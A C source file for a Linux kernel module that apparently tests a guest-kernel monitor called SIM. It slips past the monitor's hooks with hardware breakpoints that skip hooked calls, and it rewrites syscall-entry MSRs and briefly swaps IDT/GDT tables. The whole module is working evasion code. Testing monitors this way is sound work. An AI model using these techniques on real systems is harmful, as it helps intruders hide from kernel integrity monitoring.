// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * bypass.c: goes past SIM's hooks without a write to them, as an attacker would who has the
 * guest's kernel. Parameters, for insmod:
 *
 *   skip=ADDRESS             have a breakpoint of every CPU on the hook in the function at
 *                            ADDRESS, whose handler goes on behind it
 *   elsewhere=ADDRESS        the same on the function's first byte behind the hook, where a
 *                            debugger may have one; the handler counts
 *   msr=NUMBER value=VALUE   have another value in an MSR, for a moment
 *   same=1                   write the MSRs that lead into the kernel, and load the tables,
 *                            with what they have
 *   idt=1, gdt=1             load a copy of the table, for a moment
 *   cpu=NUMBER               where the last four happen (0)
 */
#include <linux/hw_breakpoint.h>
#include <linux/module.h>
#include <linux/perf_event.h>
#include <linux/smp.h>
#include <linux/vmalloc.h>
#include <asm/desc_defs.h>

#define HOOK_SIZE 5
#define CALL 0xe8

static unsigned long skip, elsewhere, msr, value;
static int same, idt, gdt, cpu;
module_param(skip, ulong, 0);
module_param(elsewhere, ulong, 0);
module_param(msr, ulong, 0);
module_param(value, ulong, 0);
module_param(same, int, 0);
module_param(idt, int, 0);
module_param(gdt, int, 0);
module_param(cpu, int, 0);

static struct perf_event *__percpu *breakpoint;
static unsigned long broken_at;
static atomic_t hits = ATOMIC_INIT(0);

static void on_hit(struct perf_event *event, struct perf_sample_data *data, struct pt_regs *regs)
{
	atomic_inc(&hits);
	if (skip && regs->ip == broken_at)
		regs->ip += HOOK_SIZE;
}

static int break_at(unsigned long function)
{
	const u8 *code = (const u8 *)function;
	struct perf_event_attr attr;
	int i;

	for (i = 0; i < HOOK_SIZE && code[i] != CALL; i++)
		;
	if (i == HOOK_SIZE)
		return -ENOENT;
	broken_at = function + i + (skip ? 0 : HOOK_SIZE);
	hw_breakpoint_init(&attr);
	attr.bp_addr = broken_at;
	attr.bp_len = sizeof(long);
	attr.bp_type = HW_BREAKPOINT_X;
	breakpoint = register_wide_hw_breakpoint(&attr, on_hit, NULL);
	return IS_ERR((void __force *)breakpoint) ? PTR_ERR((void __force *)breakpoint) : 0;
}

/* By hand: the kernel's own names for these changed in 6.16. */
static u64 read_msr(u32 number)
{
	u32 low, high;

	asm volatile("rdmsr" : "=a"(low), "=d"(high) : "c"(number));
	return low | (u64)high << 32;
}

static void write_msr(u32 number, u64 to)
{
	asm volatile("wrmsr" : : "c"(number), "a"((u32)to), "d"((u32)(to >> 32)) : "memory");
}

static void change_msr(void *unused)
{
	u64 before = read_msr(msr);

	write_msr(msr, value);
	write_msr(msr, before);
}

static void write_same(void *unused)
{
	static const u32 numbers[] = { 0xc0000081, 0xc0000082, 0xc0000083, 0xc0000084,
				       0x174,      0x175,      0x176 };
	struct desc_ptr table;
	int i;

	for (i = 0; i < ARRAY_SIZE(numbers); i++)
		write_msr(numbers[i], read_msr(numbers[i]));
	asm volatile("sidt %0" : "=m"(table));
	asm volatile("lidt %0" : : "m"(table));
	asm volatile("sgdt %0" : "=m"(table));
	asm volatile("lgdt %0" : : "m"(table));
}

static void *copy;

/* Another table with the same contents is in force for a moment. */
#define CHANGE_TABLE(name, store, load)                                                          \
	static void name(void *unused)                                                           \
	{                                                                                        \
		struct desc_ptr table, other;                                                    \
                                                                                                 \
		asm volatile(store " %0" : "=m"(table));                                         \
		memcpy(copy, (void *)table.address, table.size + 1);                             \
		other = (struct desc_ptr){ .size = table.size, .address = (unsigned long)copy }; \
		asm volatile(load " %0" : : "m"(other));                                         \
		asm volatile(load " %0" : : "m"(table));                                         \
	}

CHANGE_TABLE(change_idt, "sidt", "lidt")
CHANGE_TABLE(change_gdt, "sgdt", "lgdt")

static int __init bypass_init(void)
{
	if (skip || elsewhere)
		return break_at(skip ?: elsewhere);
	copy = vzalloc(PAGE_SIZE);
	if (!copy)
		return -ENOMEM;
	if (msr)
		smp_call_function_single(cpu, change_msr, NULL, 1);
	if (same)
		smp_call_function_single(cpu, write_same, NULL, 1);
	if (idt)
		smp_call_function_single(cpu, change_idt, NULL, 1);
	if (gdt)
		smp_call_function_single(cpu, change_gdt, NULL, 1);
	pr_info("bypass: nobody has minded\n");
	return 0;
}

static void __exit bypass_exit(void)
{
	if (breakpoint)
		unregister_wide_hw_breakpoint(breakpoint);
	pr_info("bypass: %d hits\n", atomic_read(&hits));
	vfree(copy);
}

module_init(bypass_init);
module_exit(bypass_exit);
MODULE_DESCRIPTION("Ways past SIM's hooks, from within the guest kernel");
MODULE_LICENSE("GPL");
